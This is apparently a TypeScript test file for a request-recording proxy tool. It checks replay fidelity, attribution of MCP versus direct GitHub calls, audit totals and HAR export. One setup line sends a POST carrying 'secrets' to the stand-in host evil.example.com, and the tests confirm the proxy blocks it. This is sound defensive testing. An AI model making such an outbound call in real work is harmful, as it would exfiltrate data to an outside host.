import test from 'ava';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Octokit } from '@octokit/rest';
import { Ajv } from 'ajv';
import addFormatsModule from 'ajv-formats';
import { ProxyAgent, fetch as undiciFetch, type RequestInit } from 'undici';
import { openWorld } from '../scenarios/world.js';
import { CallTracker } from '../mocks/core/attribution.js';
import { serveProxyForWorld } from '../proxy/for-world.js';
import type { Audit } from '../replay/audit.js';
import type { ReplayReport } from '../replay/report.js';
import { verifyJournal } from '../replay/verify.js';
import { tempDir } from './helpers/journal.js';
import { toolbench } from './helpers/replay-cli.js';
import { copyExampleScenario, TOKENS } from './helpers/replay-github.js';
import { harSchema } from './helpers/replay-har-schema.js';

const addFormats = addFormatsModule as unknown as (ajv: Ajv) => Ajv;

// A trial recorded the way `toolbench record` will: clients reach api.github.com over HTTPS
// through the proxy, which attributes each request (startup, an MCP tool call, direct, blocked).
// Its journal replays byte for byte, and audit counts what the attribution says.
let journalDir: string;

test.before(async () => {
  journalDir = join(tempDir(), 'journal');
  const { world, catalog } = await openWorld({ scenarioDir: copyExampleScenario(), journalDir });
  const tracker = new CallTracker();
  const served = await serveProxyForWorld(world, { services: catalog.catalog.services, passthrough: [] }, {
    caDir: join(tempDir('toolbench-ca-'), 'ca'), proxyPort: 0, tlsPort: 0, attribute: (client) => tracker.attribute(client),
  });
  try {
    const ca = readFileSync(served.certs.ca.certPath, 'utf8');
    const client = (proxy: string) => {
      const dispatcher = new ProxyAgent({ uri: proxy, requestTls: { ca } });
      return new Octokit({
        auth: TOKENS.alice,
        request: { fetch: (url: string, init: RequestInit) => undiciFetch(url, { ...init, dispatcher }) },
        log: { debug() {}, info() {}, warn() {}, error() {} },
      });
    };
    const mcp = client(served.proxy.urlFor('github'));
    const direct = client(served.proxy.url);

    tracker.register('github');
    for (let i = 0; i < 3; i++) await mcp.rateLimit.get();
    tracker.markReady('github');
    tracker.begin('github', { tool: 'create_issue', callId: 'call-1' });
    await mcp.issues.create({ owner: 'acme', repo: 'widgets', title: 'Through the proxy' });
    tracker.end('github');
    tracker.begin('github', { tool: 'list_issues', callId: 'call-2' });
    await mcp.issues.listForRepo({ owner: 'acme', repo: 'widgets', per_page: 2 });
    await mcp.issues.listForRepo({ owner: 'acme', repo: 'widgets', per_page: 2, page: 2 });
    tracker.end('github');
    await direct.users.getAuthenticated();
    await direct.issues.update({ owner: 'acme', repo: 'widgets', issue_number: 1, state: 'closed' });
    const outside = new ProxyAgent({ uri: served.proxy.urlFor('github'), requestTls: { ca } });
    await undiciFetch('https://evil.example.com/upload', { dispatcher: outside, method: 'POST', body: 'secrets' }).catch(() => undefined);
  } finally {
    await served.proxy.close();
    await world.journal.close();
  }
});

test('a proxied trial replays byte for byte, in process and over HTTP', async (t) => {
  const cli = await toolbench(['replay', journalDir, '--verify', '--json']);
  t.is(cli.code, 0, cli.stdout + cli.stderr);
  const report = JSON.parse(cli.stdout) as ReplayReport;
  t.like(report, { verdict: 'identical', divergent: 0 });
  t.true(report.entries >= 9);
  t.like(await verifyJournal(journalDir, { via: 'http' }), { verdict: 'identical', divergent: 0 });
});

test('audit counts the proxy\'s attribution: startup, MCP tool calls, bypass, blocked', async (t) => {
  const { code, stdout, stderr } = await toolbench(['audit', journalDir, '--json']);
  t.is(code, 0, stderr);
  const audit = JSON.parse(stdout) as Audit;
  t.like(audit.totals, { startup: 3, mcp: 3, mcp_bypass: 2, blocked: 1, unattributed: 0, api_calls: 6 });
  t.deepEqual(audit.tools.map((row) => [row.endpoint, row.tool, row.requests]), [['github', 'list_issues', 2], ['github', 'create_issue', 1]]);
  t.true(audit.routes.some((row) => row.route === 'POST /repos/:owner/:repo/issues' && row.mcp === 1));
  t.true(audit.routes.some((row) => row.route === 'PATCH /repos/:owner/:repo/issues/:issue_number' && row.mcp_bypass === 1));
});

test('the listing shows who made each request', async (t) => {
  const { stdout } = await toolbench(['journal', journalDir]);
  t.regex(stdout, /startup\s+GET\s+api\.github\.com\s+\/rate_limit/);
  t.regex(stdout, /mcp github\/create_issue\s+POST\s+api\.github\.com\s+\/repos\/acme\/widgets\/issues\s+issues\.create\s+201/);
  t.regex(stdout, /direct\s+PATCH\s+api\.github\.com\s+\/repos\/acme\/widgets\/issues\/1\s+issues\.update\s+200/);
  t.regex(stdout, /blocked\s+\S+\s+evil\.example\.com/);
});

test('its HAR export validates, the refused tunnel included', async (t) => {
  const { code, stdout } = await toolbench(['export', journalDir, '--har']);
  t.is(code, 0);
  const validate = addFormats(new Ajv({ strict: false })).compile(harSchema);
  const har = JSON.parse(stdout) as { log: { entries: { request: { url: string; headers: { name: string; value: string }[] } }[] } };
  t.true(validate(har), JSON.stringify(validate.errors));
  t.is(har.log.entries.at(-1)!.request.url, 'https://evil.example.com:443/');
  t.false(stdout.includes(TOKENS.alice));
});
